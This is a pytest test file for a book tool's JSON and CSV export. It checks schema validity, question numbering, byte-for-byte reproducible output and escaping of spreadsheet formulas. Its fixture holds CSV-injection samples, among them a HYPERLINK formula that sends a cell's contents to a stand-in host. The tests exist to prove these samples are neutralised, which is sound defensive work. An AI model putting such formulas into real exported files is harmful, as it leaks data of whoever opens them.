"""`bookbuild export`: the bank as JSON (valid against its shipped schema, every YAML field as
written) and as CSV (one row a question, a BOM, no cell a spreadsheet would run as a formula)."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import shutil
from pathlib import Path

import jsonschema
import pytest
import yaml

from bookbuild import export
from bookbuild.errors import BookError
from bookbuild.numbering import book_numbers
from bookbuild.pipeline import check
from conftest import EPOCH, FIXTURES, ROOT, run_cli

SHIPPED_SCHEMA = ROOT / "bookbuild" / "schemas" / "export.schema.json"
RESERVED = ("interviews.yaml", "discarded.yaml")

# prompts a spreadsheet would run as formulas (and one already starting with a quote)
TRICKY = """title: Tricky cells
questions:
  - id: eq-formula
    difficulty: easy
    prompt: '=HYPERLINK("https://example.org/?d="&A1, "Click")'
    answer: Never run it.
    tags: ["=cmd", plain]
  - id: at-formula
    difficulty: easy
    group: "@group"
    prompt: "@SUM(1+1) is what?"
    answer: "-1"
  - id: plus-formula
    difficulty: medium
    prompt: "+1+2"
    hint: "=2+1"
    answer: "Three, and a list item in Markdown."
  - id: minus-formula
    difficulty: medium
    prompt: |
      - a list item first,
      - then a second line, "quoted", with a comma
    answer: Two lines.
  - id: tab-formula
    difficulty: hard
    kind: open-ended
    prompt: "\\t=1+1 after a tab"
    answer: "\\r=1 after a carriage return"
  - id: quote-formula
    difficulty: hard
    prompt: "'=already quoted"
    answer: Still escaped, one quote more.
"""


@pytest.fixture(autouse=True)
def reproducible_date(monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)


@pytest.fixture
def shaped(tmp_path) -> Path:
    """A copy of the fixture book with front matter, a part introduction and appendices."""
    dest = tmp_path / "shaped"
    shutil.copytree(FIXTURES / "shaped", dest, ignore=shutil.ignore_patterns("dist", ".bookbuild-cache"))
    return dest


@pytest.fixture
def tricky(mini) -> Path:
    """The mini book with a topic of prompts that look like spreadsheet formulas."""
    (mini / "questions" / "tricky.yaml").write_text(TRICKY, encoding="utf-8")
    basics = mini / "book" / "chapters" / "basics.md"
    basics.write_text(basics.read_text().replace("## Practice", '::: {.questions topic="tricky"}\n:::\n\n## Practice'))
    _, report = check(mini)
    assert not report.errors, [str(d) for d in report.errors]
    return mini


def exported(root: Path, out: Path, formats=export.FORMATS):
    result = export.export_bank(root, formats, out)
    slug = check(root)[0].meta.slug
    return result, out / f"{slug}.json", out / f"{slug}.csv"


def validate(data: dict) -> list[str]:
    schema = json.loads(SHIPPED_SCHEMA.read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(data)]


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def unescape(cell: str) -> str:
    """What README.md says a reader does to get a cell's text back: drop the one added quote."""
    return cell[1:] if re.match("'+[=+\\-@\t\r\0\uff1d\uff0b\uff0d\uff20]", cell) else cell


# ---- JSON ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("book", ["mini", "shaped", "tricky"])
def test_json_validates_and_gives_back_every_yaml_field(book, request, tmp_path):
    root = request.getfixturevalue(book)
    _, json_path, _ = exported(root, tmp_path / "out")
    data = json.loads(json_path.read_text(encoding="utf-8"))
    assert validate(data) == []

    by_id = {q["id"]: q for q in data["questions"]}
    yaml_files = sorted(p for p in (root / "questions").glob("*.yaml") if p.name not in RESERVED)
    assert [t["id"] for t in data["topics"]] == [p.stem for p in yaml_files]
    count = 0
    for path, topic in zip(yaml_files, data["topics"]):
        source = yaml.safe_load(path.read_text(encoding="utf-8"))
        assert topic["title"] == source["title"]
        assert topic["resources"] == [{"note": None, **r} for r in source.get("resources", [])]
        assert topic["questions"] == [q["id"] for q in source["questions"]]
        for question in source["questions"]:
            count += 1
            got = by_id[question["id"]]
            assert got["topic"] == path.stem
            for key, value in question.items():  # Markdown as written, not rendered
                assert got[key] == value, (question["id"], key)
            for key in ("hint", "answer", "group", "flaw"):
                if key not in question:
                    assert got[key] is None, (question["id"], key)
            assert got["kind"] == question.get("kind", "knowledge")
            assert got["tags"] == question.get("tags", [])
    assert len(data["questions"]) == count

    interviews = yaml.safe_load((root / "questions/interviews.yaml").read_text(encoding="utf-8"))["interviews"]
    assert data["interviews"] == interviews
    discarded = yaml.safe_load((root / "questions/discarded.yaml").read_text(encoding="utf-8"))["discarded"]
    assert data["discarded"] == discarded
    assert data["book"] == {"title": yaml.safe_load((root / "book/book.yaml").read_text())["title"],
                            "slug": json_path.stem, "author": "Test Author", "language": "en",
                            "identifier": data["book"]["identifier"], "version": data["book"]["version"],
                            "build_date": dt.datetime.fromtimestamp(int(EPOCH), dt.timezone.utc)
                            .strftime("%Y-%m-%dT%H:%M:%SZ")}
    # no release PDF built: no pages
    assert data["has_pages"] is False and all(q["page"] is None for q in data["questions"])


@pytest.mark.parametrize("book", ["mini", "shaped"])
def test_book_numbers_order_and_chapters(book, request, tmp_path):
    root = request.getfixturevalue(book)
    _, json_path, _ = exported(root, tmp_path / "out", ("json",))
    data = json.loads(json_path.read_text(encoding="utf-8"))
    numbers = book_numbers(check(root)[0])
    assert [(q["id"], q["number"]) for q in data["questions"]] == list(numbers.items())  # book order
    for q in data["questions"]:
        assert q["chapter"]["label"] == q["number"].split(".")[0]
    if book == "shaped":  # front matter and the part introduction hold none; the appendix is lettered
        assert {q["chapter"]["file"] for q in data["questions"]} == {"basics.md", "interviewers.md"}
        loops = [q for q in data["questions"] if q["topic"] == "loops"]
        assert [q["number"] for q in loops] == ["A.1", "A.2"]
        assert loops[0]["chapter"] == {"file": "interviewers.md", "label": "A", "title": "For interviewers"}


def test_pages_from_the_release_page_map(mini, tmp_path):
    release = mini / "dist" / "release"
    release.mkdir(parents=True)
    pagemap = release / "pagemap.json"
    pagemap.write_text(json.dumps({"mean-median": 11, "var-scale": 12, "coin-fair": 14}))
    result, json_path, _ = exported(mini, tmp_path / "out")
    data = json.loads(json_path.read_text(encoding="utf-8"))
    assert validate(data) == []
    assert data["has_pages"] is True
    assert {q["id"]: q["page"] for q in data["questions"]} == {"mean-median": 11, "var-scale": 12, "coin-fair": 14}
    assert not [d for d in result.report.warnings if "release PDF" in d.message]
    assert [r["page"] for r in read_csv(tmp_path / "out" / "mini-book.csv")] == ["11", "12", "14"]

    # older than the sources: the pages still come, with a warning (as a sheet's key does)
    old = (mini / "book/book.yaml").stat().st_mtime - 100
    os.utime(pagemap, (old, old))
    result, json_path, _ = exported(mini, tmp_path / "out")
    assert json.loads(json_path.read_text())["questions"][0]["page"] == 11
    stale = [d for d in result.report.warnings if "release PDF" in d.message]
    assert len(stale) == 1 and "export's page numbers may be off" in stale[0].message
    assert stale[0].pos.path == str(pagemap)


# ---- CSV ----------------------------------------------------------------------------------------

def test_csv_one_row_a_question_formulas_escaped(tricky, tmp_path):
    _, json_path, csv_path = exported(tricky, tmp_path / "out")
    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfnumber,id,")
    data = json.loads(json_path.read_text(encoding="utf-8"))
    rows = read_csv(csv_path)
    assert list(rows[0]) == list(export.CSV_COLUMNS)
    assert [r["id"] for r in rows] == [q["id"] for q in data["questions"]]
    by_id = {r["id"]: r for r in rows}

    assert by_id["eq-formula"]["prompt"] == "'" + '=HYPERLINK("https://example.org/?d="&A1, "Click")'
    assert by_id["eq-formula"]["tags"] == "'=cmd;plain"
    assert by_id["at-formula"]["prompt"] == "'@SUM(1+1) is what?"
    assert by_id["at-formula"]["group"] == "'@group"
    assert by_id["at-formula"]["answer"] == "'-1"
    assert by_id["plus-formula"]["prompt"] == "'+1+2" and by_id["plus-formula"]["hint"] == "'=2+1"
    assert by_id["minus-formula"]["prompt"] == "'- a list item first,\n- then a second line, \"quoted\", with a comma\n"
    assert by_id["tab-formula"]["prompt"] == "'\t=1+1 after a tab"
    assert by_id["tab-formula"]["answer"] == "'\r=1 after a carriage return"
    assert by_id["quote-formula"]["prompt"] == "''=already quoted"
    assert by_id["mean-median"]["prompt"] == "When is the median a better summary than the mean?\n"  # untouched
    assert by_id["mean-median"]["tags"] == "descriptive" and by_id["mean-median"]["number"] == "2.1"
    assert by_id["mean-median"]["chapter"] == "Basics" and by_id["mean-median"]["page"] == ""
    # no cell starts as a formula; dropping the one added quote gives the JSON's text back exactly
    for row, q in zip(rows, data["questions"]):
        for column, cell in row.items():
            assert not re.match("[=+\\-@\t\r]", cell), (q["id"], column)
            value = {**q, "chapter": q["chapter"]["title"], "tags": ";".join(q["tags"])}[column]
            assert unescape(cell) == ("" if value is None else str(value)), (q["id"], column)


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\uff1dSUM(1)", "'\uff1dSUM(1)"), ("'=x", "''=x"), ("'plain", "'plain"), ("a=b", "a=b"), (" =x", " =x"),
    ("", ""), (None, ""), (12, "12"),
])
def test_csv_cell(text, cell):
    assert export.csv_cell(text) == cell
    assert unescape(cell) == ("" if text is None else str(text))


# ---- reproducible, atomic, the command line -----------------------------------------------------

def test_same_sources_same_bytes(tricky, tmp_path):
    _, json_a, csv_a = exported(tricky, tmp_path / "a")
    _, json_b, csv_b = exported(tricky, tmp_path / "b")
    assert json_a.read_bytes() == json_b.read_bytes() and csv_a.read_bytes() == csv_b.read_bytes()
    assert not list((tmp_path / "a").glob("*part*"))  # written beside, moved in: no scratch left


def test_book_errors_write_nothing(mini, tmp_path):
    exported(mini, tmp_path / "out")
    before = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    path = mini / "questions/stats.yaml"
    path.write_text(path.read_text().replace("difficulty: easy", "difficulty: trivial"))
    with pytest.raises(BookError) as caught:
        exported(mini, tmp_path / "out")
    assert any("trivial" in d.message for d in caught.value.report.errors)
    assert {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()} == before


def test_cli(tricky, tmp_path):
    done = run_cli("export", "--book", str(tricky))
    assert done.returncode == 0, done.stderr
    out = tricky / "dist" / "export"
    assert done.stdout.split() == [str(out / "mini-book.json"), str(out / "mini-book.csv")]
    assert validate(json.loads((out / "mini-book.json").read_text(encoding="utf-8"))) == []
    assert len(read_csv(out / "mini-book.csv")) == 3 + 6
    assert (out / "mini-book.json").read_bytes() == \
        export.json_text(export.bank_data(check(tricky)[0], check(tricky)[1])).encode("utf-8")

    done = run_cli("export", "--book", str(tricky), "--format", "csv", "--out", str(tmp_path / "csv"))
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == ["mini-book.csv"]

    for malformed in ("xml", "json,pdf", ""):
        done = run_cli("export", "--book", str(tricky), "--format", malformed, "--out", str(tmp_path / "bad"))
        assert done.returncode == 2, (malformed, done.stderr)
        assert "--format" in done.stderr and not (tmp_path / "bad").exists()

    path = tricky / "questions/tricky.yaml"
    path.write_text(path.read_text().replace("difficulty: hard\n    kind: open-ended", "difficulty: hard\n    kind: opn"))
    done = run_cli("export", "--book", str(tricky), "--out", str(tmp_path / "err"))
    assert done.returncode == 1
    assert re.search(rf"^{re.escape(str(path))}:\d+:\d+: error: .*'opn'", done.stderr, re.M), done.stderr
    assert "Traceback" not in done.stderr and not (tmp_path / "err").exists()


def test_schema_command_writes_the_export_schema(tmp_path):
    done = run_cli("schema", "--out", str(tmp_path / "s"))
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "s" / "export.schema.json").read_text(encoding="utf-8") == \
        SHIPPED_SCHEMA.read_text(encoding="utf-8")
    assert str(tmp_path / "s" / "export.schema.json") in done.stdout.split()
    jsonschema.Draft202012Validator.check_schema(export.export_schema())
